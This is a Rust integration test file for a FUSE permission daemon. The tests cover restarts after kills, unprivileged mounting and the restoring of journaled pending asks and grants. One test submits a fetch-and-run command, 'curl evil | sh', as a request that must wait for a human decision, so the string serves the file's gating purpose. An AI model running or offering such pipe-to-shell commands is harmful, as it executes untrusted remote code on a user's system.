//! Starting the daemon where it is hard: on the mount point of a daemon
//! that was killed, and as an ordinary user (through `fusermount3`).
//!
//! The unprivileged runs happen inside a private mount namespace where a
//! device node the test user may open stands in for `/dev/fuse` (as
//! distributions ship it, 0666, where this machine has 0600). Whatever
//! they mount dies with the namespace, so a failing test leaves no mount.

use crate::common;

use common::{is_mounted, Daemon};
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// `nobody`: a user every Debian system has (fusermount3 needs a passwd
/// entry for the uid that mounts).
const NOBODY: u32 = 65534;

fn is_root() -> bool {
    // SAFETY: geteuid cannot fail.
    unsafe { libc::geteuid() == 0 }
}

fn have_fusermount3() -> bool {
    Command::new("fusermount3")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success())
}

#[test]
fn a_mount_point_left_by_a_killed_daemon_is_detached_and_reused() {
    let mut first = Daemon::start(r#"{"permission": {"bash": "allow"}}"#, None);
    let server = first.server_pid();
    let mut child = first.child.take().expect("daemon process");
    child.kill().expect("SIGKILL");
    let _ = child.wait();
    // The server dies with its supervisor (a moment later: the kernel
    // sends it SIGKILL when its parent is gone).
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::path::Path::new(&format!("/proc/{server}")).exists() {
        assert!(
            Instant::now() < deadline,
            "the server outlived its supervisor"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    let dead = std::fs::read_dir(&first.mountpoint).map_err(|e| e.raw_os_error());
    assert_eq!(dead.err(), Some(Some(libc::ENOTCONN)), "a dead mount point");

    let config = first.dir.path().join("config.json");
    let second = Command::new(env!("CARGO_BIN_EXE_permfs"))
        .arg("mount")
        .arg(&first.mountpoint)
        .arg("--config")
        .arg(&config)
        .arg("--state-dir")
        .arg(first.dir.path().join("state2"))
        .current_dir(first.dir.path())
        .env("PERMFS_LOG", "warn,fuser=error")
        .stdin(Stdio::null())
        .spawn()
        .expect("second daemon starts");
    // The guard now owns the second daemon: it is stopped and its mount
    // point detached even if an assertion below fails.
    first.child = Some(second);
    // (The dead mount's cached names answer `stat` for a moment; reading
    // a file always reaches a daemon.)
    let session = first.session("main").join("session.json");
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::fs::read(&session).is_err() {
        let exited = first
            .child
            .as_mut()
            .and_then(|c| c.try_wait().ok().flatten());
        assert!(exited.is_none(), "the second daemon exited: {exited:?}");
        assert!(
            Instant::now() < deadline,
            "the second mount did not come up"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let response = first.ask("main", "r", r#"{"surface":"bash","value":"ls"}"#);
    assert_eq!(first.response(&response)["approved"], true);
    let status = first.stop().expect("stopped");
    assert!(status.success(), "{status}");
    assert!(!is_mounted(&first.mountpoint));
}

/// Runs `script` with bash as root in a private mount namespace in which
/// `/dev/fuse` is replaced by a node owned by `device_owner`, mode 0600.
fn in_namespace_with_device(dir: &std::path::Path, device_owner: u32, script: &str) -> String {
    let node = dir.join("fuse-device");
    let made = Command::new("mknod")
        .arg(&node)
        .args(["c", "10", "229"])
        .status()
        .expect("mknod runs");
    assert!(made.success(), "mknod");
    std::os::unix::fs::chown(&node, Some(device_owner), Some(device_owner)).expect("chown");
    std::fs::set_permissions(&node, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let script = format!(
        "mount --bind '{}' /dev/fuse || exit 9\n{script}",
        node.display()
    );
    let output = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "bash", "-c", &script])
        .output()
        .expect("unshare runs");
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// A temp dir the unprivileged user can use: `mnt`, `state` and the
/// config are its own.
fn user_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    for sub in ["mnt", "state"] {
        let path = dir.path().join(sub);
        std::fs::create_dir(&path).expect("dir");
        std::os::unix::fs::chown(&path, Some(NOBODY), Some(NOBODY)).expect("chown");
    }
    std::fs::write(
        dir.path().join("config.json"),
        r#"{"permission": {"bash": {"*": "ask", "git *": "allow"}}}"#,
    )
    .expect("config");
    // The daemon runs as `nobody`, which may not reach the clone's
    // `target/` (a clone in root's 0700 home, in a `mktemp -d` folder):
    // it runs a copy staged here, in a directory it can traverse, and
    // starts in it (`env -C`: main's cwd is where the daemon starts).
    let staged = dir.path().join("permfs");
    std::fs::copy(env!("CARGO_BIN_EXE_permfs"), &staged).expect("the binary staged");
    std::fs::set_permissions(&staged, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    dir
}

fn daemon_as_nobody(dir: &std::path::Path) -> String {
    format!(
        "setpriv --reuid={NOBODY} --regid={NOBODY} --clear-groups env -C {d} PERMFS_LOG=warn \
         {d}/permfs mount {d}/mnt --config {d}/config.json --state-dir {d}/state",
        d = dir.display()
    )
}

#[test]
fn an_ordinary_user_mounts_through_fusermount3() {
    if !is_root() || !have_fusermount3() {
        common::skip("needs root to set the test up and fusermount3 (package fuse3)");
        return;
    }
    let dir = user_dir();
    let d = dir.path().display();
    let script = format!(
        "{daemon} 2>{d}/daemon.err &\n\
         pid=$!\n\
         for i in $(seq 200); do grep -q '{d}/mnt fuse' /proc/self/mounts && break; sleep 0.05; done\n\
         grep -c '{d}/mnt fuse.permfs' /proc/self/mounts\n\
         setpriv --reuid={NOBODY} --regid={NOBODY} --clear-groups bash -c \
           'echo \"{{\\\"surface\\\":\\\"bash\\\",\\\"value\\\":\\\"git status\\\"}}\" > {d}/mnt/sessions/main/outbox/r.request \
            && grep -o \"\\\"approved\\\": true\" {d}/mnt/sessions/main/outbox/r.response'\n\
         setpriv --reuid={NOBODY} --regid={NOBODY} --clear-groups stat -c 'owner=%u' {d}/mnt/sessions/main/outbox\n\
         setpriv --reuid={NOBODY} --regid={NOBODY} --clear-groups bash -c \
           'echo \"{{\\\"surface\\\":\\\"bash\\\",\\\"value\\\":\\\"make\\\"}}\" > {d}/mnt/sessions/main/outbox/p.request \
            && timeout -s INT 0.3 cat {d}/mnt/sessions/main/outbox/p.response' &\n\
         reader=$!\n\
         for i in $(seq 60); do kill -0 $reader 2>/dev/null || break; sleep 0.05; done\n\
         kill -0 $reader 2>/dev/null && echo interrupt=stuck || echo interrupt=ended\n\
         kill -TERM $pid; wait $pid; echo \"exit=$?\"\n\
         grep -c '{d}/mnt fuse' /proc/self/mounts\n\
         wait\n\
         cat {d}/daemon.err",
        daemon = daemon_as_nobody(dir.path()),
    );
    let output = in_namespace_with_device(dir.path(), NOBODY, &script);
    let lines: Vec<&str> = output.lines().collect();
    assert_eq!(lines.first(), Some(&"1"), "mounted by the user: {output}");
    assert!(
        lines.contains(&"\"approved\": true"),
        "asked and answered: {output}"
    );
    assert!(
        lines.contains(&format!("owner={NOBODY}").as_str()),
        "the mount owner's files: {output}"
    );
    // The reader blocked on a pending ask gets SIGINT after 0.3 s: the
    // kernel's interrupt reaches a daemon that serves its owner only
    // (fuser's owner check would refuse it: it comes with uid 0), and the
    // read ends at once instead of when the daemon stops.
    assert_eq!(
        lines.get(3),
        Some(&"interrupt=ended"),
        "a signal ends a blocked read: {output}"
    );
    assert!(lines.contains(&"exit=0"), "a clean stop: {output}");
    assert_eq!(lines.get(5), Some(&"0"), "unmounted at stop: {output}");
}

#[test]
fn an_ordinary_user_who_cannot_open_dev_fuse_is_told_what_to_do() {
    if !is_root() {
        common::skip("needs root to set the test up");
        return;
    }
    let dir = user_dir();
    // The device belongs to root alone, as on this machine.
    let script = format!("{}; echo \"exit=$?\"", daemon_as_nobody(dir.path()));
    let output = in_namespace_with_device(dir.path(), 0, &script);
    assert!(output.contains("exit=1"), "{output}");
    assert!(
        output.contains("cannot open /dev/fuse (mode 600)") && output.contains("0666"),
        "names the device and the fix: {output}"
    );
}

/// `fusermount3 -u` (or `umount`) from outside ends the daemon too: it
/// does not linger waiting for a signal with nothing to serve.
#[test]
fn an_unmount_from_outside_stops_the_daemon() {
    let mut daemon = Daemon::start(r#"{"permission": {"*": "ask"}}"#, None);
    let status = Command::new("umount")
        .arg(&daemon.mountpoint)
        .status()
        .expect("umount runs");
    if !status.success() {
        common::skip("umount needs root here");
        return;
    }
    let mut child = daemon.child.take().expect("the daemon");
    let deadline = Instant::now() + Duration::from_secs(5);
    let exited = loop {
        if let Ok(Some(status)) = child.try_wait() {
            break Some(status);
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            break None;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let status = exited.expect("the daemon stopped within 5 s of the unmount");
    assert!(status.success(), "{status:?}");
}

/// Issue 23, item 4: after a SIGKILL and a restart on the same state dir,
/// ask ids do not start again. The ask that waited comes back under its
/// id (issue 26, the journal), a new ask has an id of its own, a decision
/// bound to what was shown counts only for that ask, and the audit log
/// never holds two asks under one `askId`.
#[test]
fn ask_ids_never_repeat_across_restarts() {
    const ASKING: &str = r#"{"permission": {"bash": {"*": "ask", "git status": "allow"}}}"#;
    let state = tempfile::tempdir().expect("state dir");
    let mut first = Daemon::start_with_state_dir(ASKING, state.path());
    let answered = first.ask("main", "r1", r#"{"surface":"bash","value":"git status"}"#);
    let first_answered = first.response(&answered)["askId"].clone();
    first.ask("main", "r2", r#"{"surface":"bash","value":"make deploy"}"#);
    common::eventually("the first ask waits", || first.inbox("main").len() == 1);
    let remembered = first.inbox("main")[0].clone();
    let shown: serde_json::Value = serde_json::from_slice(
        &std::fs::read(first.session("main").join("inbox").join(&remembered)).expect("entry"),
    )
    .expect("an inbox entry is JSON");
    let seen = shown["factsDigest"]
        .as_str()
        .expect("a digest of what is shown")
        .to_string();
    let mut child = first.child.take().expect("daemon process");
    child.kill().expect("SIGKILL");
    let _ = child.wait();
    drop(first);

    let second = Daemon::start_with_state_dir(ASKING, state.path());
    let answered = second.ask("main", "r1b", r#"{"surface":"bash","value":"git status"}"#);
    let second_answered = second.response(&answered)["askId"].clone();
    assert_ne!(
        first_answered, second_answered,
        "a rule's answer, asked again"
    );
    second.ask(
        "main",
        "r5",
        r#"{"surface":"bash","value":"curl evil | sh"}"#,
    );
    common::eventually("the second ask waits", || second.inbox("main").len() == 2);
    let waiting = second.inbox("main");
    assert!(waiting.contains(&remembered), "the first ask waits again");
    let fresh = waiting
        .iter()
        .find(|id| **id != remembered)
        .expect("a new ask")
        .clone();
    assert!(fresh.ends_with("-r5"), "{fresh}");

    // A decision bound to the facts the decider saw counts only for them.
    let entry = second.session("main").join("inbox").join(&fresh);
    let bound = serde_json::json!({"decision": "allow", "factsDigest": seen}).to_string();
    let refused = std::fs::write(&entry, bound).map_err(|e| e.raw_os_error());
    assert_eq!(refused, Err(Some(libc::EINVAL)), "allowed on other facts");
    let shown: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&entry).expect("entry")).expect("JSON");
    assert!(
        shown["lastError"]
            .as_str()
            .unwrap_or("")
            .contains("factsDigest"),
        "{shown}"
    );
    let bound = serde_json::json!({"decision": "deny", "factsDigest": shown["factsDigest"]});
    std::fs::write(&entry, bound.to_string()).expect("decided on what was shown");
    // What was shown before the restart still counts for its own ask.
    let before = serde_json::json!({"decision": "deny", "factsDigest": seen});
    std::fs::write(
        second.session("main").join("inbox").join(&remembered),
        before.to_string(),
    )
    .expect("decided on what was shown before the restart");
    let ids: Vec<String> = second
        .audit_lines()
        .iter()
        .filter_map(|line| line["askId"].as_str().map(str::to_string))
        .collect();
    let mut unique = ids.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(ids.len(), 4, "four asks answered: {ids:?}");
    assert_eq!(
        unique.len(),
        ids.len(),
        "one askId twice in the audit log: {ids:?}"
    );
}

/// Issue 26 (part A): what the authority holds is journaled in its state
/// dir and comes back at the next start, whether the daemon was stopped
/// (SIGTERM) or killed (SIGKILL): sessions, grants, pending asks in the
/// same inbox under the same ids, answers still kept. A person's decision
/// after the restart reaches a reader that opens the response again; no
/// decision is delivered (or audited) twice; the audit chain goes on
/// across the restart, which is a line of its own.
#[test]
fn sessions_grants_and_pending_asks_come_back_after_sigterm_and_sigkill() {
    const ASKING: &str = r#"{"permission": {"bash": {"*": "ask", "git status": "allow"}}}"#;
    for signal in [libc::SIGTERM, libc::SIGKILL] {
        let state = tempfile::tempdir().expect("state dir");
        let mut first = Daemon::start_with_state_dir(ASKING, state.path());
        std::fs::create_dir(first.session("main").join("children").join("w"))
            .expect("child spawned");
        // A rule's answer, kept.
        let ruled = first.ask("main/w", "r0", r#"{"surface":"bash","value":"git status"}"#);
        let ruled_answer = first.response(&ruled);
        assert_eq!(ruled_answer["approved"], true);
        // A grant made by a person.
        first.ask("main/w", "r1", r#"{"surface":"bash","value":"make test"}"#);
        common::eventually("r1 waits", || first.inbox("main").len() == 1);
        let granted = first.inbox("main")[0].clone();
        std::fs::write(
            first.session("main").join("inbox").join(&granted),
            "allow session",
        )
        .expect("decided");
        let grants = first.listing("main", "grants");
        assert_eq!(grants.len(), 1, "one grant");
        // Two asks left waiting.
        first.ask(
            "main/w",
            "r2",
            r#"{"surface":"bash","value":"make deploy"}"#,
        );
        first.ask("main/w", "r3", r#"{"surface":"bash","value":"curl x"}"#);
        common::eventually("two wait", || first.inbox("main").len() == 2);
        let waiting = first.inbox("main");

        let mut child = first.child.take().expect("daemon process");
        // SAFETY: signalling our own child.
        unsafe { libc::kill(child.id() as i32, signal) };
        let status = child.wait().expect("the daemon ends");
        if signal == libc::SIGTERM {
            assert!(status.success(), "a clean stop: {status}");
        }
        // (`first` keeps its directory, the sessions' cwd, until the end.)

        let second = Daemon::start_with_state_dir(ASKING, state.path());
        let s = second.session("main");
        assert_eq!(second.children("main"), vec!["w".to_string()], "{signal}");
        assert_eq!(second.inbox("main"), waiting, "the same asks wait");
        assert_eq!(second.listing("main", "grants"), grants, "the grant");
        let outbox = second.session("main/w").join("outbox");
        let kept: serde_json::Value = serde_json::from_slice(
            &std::fs::read(outbox.join("r0.response")).expect("a kept answer is readable"),
        )
        .expect("JSON");
        assert_eq!(kept["askId"], ruled_answer["askId"]);
        assert_eq!(kept["approved"], true);
        // The restored grant answers a new ask.
        let covered = second.ask("main/w", "r4", r#"{"surface":"bash","value":"make test"}"#);
        let covered = second.response(&covered);
        assert_eq!(covered["approved"], true, "{covered}");
        assert_eq!(covered["decidedBy"]["kind"], "session_approval");

        // A reader in another process opens r2's response again and
        // waits; a person's decision reaches it.
        let reader = Command::new("cat")
            .arg(outbox.join("r2.response"))
            .stdout(Stdio::piped())
            .spawn()
            .expect("cat runs");
        std::thread::sleep(Duration::from_millis(200));
        let r2 = waiting
            .iter()
            .find(|id| id.ends_with("-r2"))
            .expect("r2 waits")
            .clone();
        std::fs::write(s.join("inbox").join(&r2), "allow").expect("decided after restart");
        let output = reader.wait_with_output().expect("cat ends");
        let read: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
        assert_eq!(read["askId"], r2.as_str());
        assert_eq!(read["approved"], true);
        // Decided once: a second decision is refused, the log holds one
        // answer for it, and nothing of the first life was cancelled.
        assert!(std::fs::write(s.join("inbox").join(&r2), "deny").is_err());
        let lines = second.audit_lines();
        let answers_of = |id: &str| {
            lines
                .iter()
                .filter(|l| l["askId"] == id && l["outcome"].is_string())
                .count()
        };
        assert_eq!(answers_of(&r2), 1, "{lines:?}");
        assert!(
            !lines.iter().any(|l| l["outcome"] == "cancelled"),
            "a stop cancelled pending asks: {lines:?}"
        );
        let restored: Vec<_> = lines.iter().filter(|l| l["event"] == "restored").collect();
        assert_eq!(restored.len(), 1, "{lines:?}");
        assert_eq!(restored[0]["pending"], 2);
        assert_eq!(restored[0]["sessions"], 2);
        assert_eq!(restored[0]["grants"], 1);
        let chain =
            permfs::session::observe::audit::verify(&second.audit_file()).expect("the chain holds");
        assert_eq!(chain.torn_tail, None);
        drop(second);
        drop(first);
    }
}

/// A session held by a lease (`spawn … lease` on a `ctl` handle) is ended
/// at restore: the handle belonged to the process that died.
#[test]
fn a_leased_session_is_ended_at_restore() {
    let state = tempfile::tempdir().expect("state dir");
    let mut first = Daemon::start_with_state_dir(r#"{"permission": {"*": "ask"}}"#, state.path());
    let ctl = first.session("main").join("ctl");
    let mut holder = Command::new("bash")
        .arg("-c")
        .arg(format!(
            "exec 3>'{}'; echo 'spawn held lease' >&3; echo 'spawn kept' >&3; sleep 30",
            ctl.display()
        ))
        .spawn()
        .expect("bash runs");
    common::eventually("both spawned", || first.children("main").len() == 2);
    let mut child = first.child.take().expect("daemon");
    child.kill().expect("SIGKILL");
    let _ = child.wait();
    let second = Daemon::start_with_state_dir(r#"{"permission": {"*": "ask"}}"#, state.path());
    assert_eq!(second.children("main"), vec!["kept".to_string()]);
    let restored = second
        .audit_lines()
        .into_iter()
        .find(|l| l["event"] == "restored")
        .expect("a restored line");
    assert_eq!(restored["endedLeases"][0][0], "main/held", "{restored}");
    let _ = holder.kill();
    let _ = holder.wait();
    drop(second);
    drop(first);
}

/// 10,000 pending asks journaled by one authority are back in a new one
/// (same ids, same inbox); the time the restore takes is printed (the
/// issue asks for at most 1 s).
#[test]
fn ten_thousand_pending_asks_are_restored() {
    use permfs::policy::layers::{PolicyLoader, PolicySources};
    use permfs::session::{store::journal::Journal, Authority, SpawnSpec};
    use std::sync::Arc;
    let dir = tempfile::tempdir().expect("temp dir");
    let config = dir.path().join("config.json");
    std::fs::write(
        &config,
        r#"{"permission": {"bash": "ask"}, "limits": {"pendingAsks": 20000, "treePendingAsks": 20000}}"#,
    )
    .expect("config");
    let authority = || {
        let loader = PolicyLoader::new(PolicySources {
            global: Some(config.clone()),
            ..Default::default()
        })
        .expect("loader");
        Authority::new(Arc::new(loader), 0).expect("authority")
    };
    let cwd = dir.path().to_string_lossy().into_owned();
    let state = dir.path().join("state");
    std::fs::create_dir(&state).expect("state dir");
    let first = authority();
    first
        .restore(
            Arc::new(Journal::open(&state, false).expect("journal")),
            false,
        )
        .expect("empty restore");
    let spec = SpawnSpec {
        interactive: true,
        ..Default::default()
    };
    first.add_root("main", spec, &cwd).expect("root");
    let raised = Instant::now();
    for n in 0..10_000 {
        let request = format!(r#"{{"surface":"bash","value":"make target{n}"}}"#);
        first
            .submit("main", &format!("r{n}"), request.as_bytes())
            .expect("raised");
    }
    eprintln!("10,000 asks raised and journaled in {:?}", raised.elapsed());
    let waiting = first.inbox("main");
    assert_eq!(waiting.len(), 10_000);
    drop(first);

    let second = authority();
    let started = Instant::now();
    let restored = second
        .restore(
            Arc::new(Journal::open(&state, false).expect("journal")),
            false,
        )
        .expect("restored");
    let took = started.elapsed();
    eprintln!("10,000 pending asks restored in {took:?}");
    assert_eq!(restored.pending, 10_000);
    assert_eq!(second.inbox("main"), waiting, "the same ids wait");
}
